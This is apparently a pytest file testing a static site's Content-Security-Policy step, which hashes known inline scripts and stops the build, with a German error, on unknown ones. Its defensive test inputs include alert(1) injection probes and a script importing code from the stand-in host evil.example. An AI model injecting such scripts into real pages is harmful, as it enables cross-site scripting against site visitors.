"""The per-page Content-Security-Policy: only known inline scripts, each by its hash."""

import base64
import hashlib

import pytest

from portal.postbuild.csp import KNOWN_INLINE_SCRIPTS, UnknownInlineScript, check_inline_scripts, inline_script_hashes, policy_for, with_policy

TABS = next(script.text for script in KNOWN_INLINE_SCRIPTS if script.name.startswith("Material: Reiter"))
SCOPE = (
    '__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
)
PAGE = f"""<!doctype html><html><head><meta charset="utf-8">
<script>{SCOPE}</script>
<script type="application/json" id="__config">{{"x": 1}}</script>
<script type="application/ld+json">{{"@type": "Event"}}</script>
<script src="x.js"></script>
<script>{TABS}</script>
<script>{TABS}</script>
</head><body></body></html>"""


def sha(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_only_executable_inline_scripts_are_hashed_once_each():
    assert inline_script_hashes(PAGE) == [sha(SCOPE), sha(TABS)]


def test_policy_allows_self_wasm_and_hashes_but_not_unsafe_inline_scripts():
    policy = policy_for(PAGE)
    script_src = next(part for part in policy.split("; ") if part.startswith("script-src"))
    assert script_src == f"script-src 'self' 'wasm-unsafe-eval' {sha(SCOPE)} {sha(TABS)}"
    assert "default-src 'self'" in policy and "worker-src 'self' blob:" in policy
    assert "object-src 'none'" in policy and "unsafe-inline" not in script_src


def test_meta_tag_comes_first_in_head():
    html = with_policy(PAGE)
    head = html.split("<head>", 1)[1]
    assert head.startswith('<meta http-equiv="Content-Security-Policy"')


@pytest.mark.parametrize(
    "script",
    [
        "<script>alert(1)</script>",
        '<script type="module">import("https://evil.example/x.js")</script>',
        f"<script>{TABS};alert(1)</script>",
        '<script>__md_scope=new URL("x\\",location),alert(1)//",location)</script>',
    ],
)
def test_an_unknown_inline_script_stops_the_build_in_german(script):
    page = PAGE.replace("</head>", script + "</head>")
    with pytest.raises(UnknownInlineScript) as caught:
        with_policy(page, "termine/x/index.html")
    message = str(caught.value)
    assert message.startswith("termine/x/index.html: Die Seite enthält 1 unbekannte(s) Inline-Skript(e)")
    assert "KNOWN_INLINE_SCRIPTS" in message


def test_json_data_blocks_are_not_scripts():
    check_inline_scripts('<script type="application/ld+json">{"name": "alert(1)"}</script>', "x")
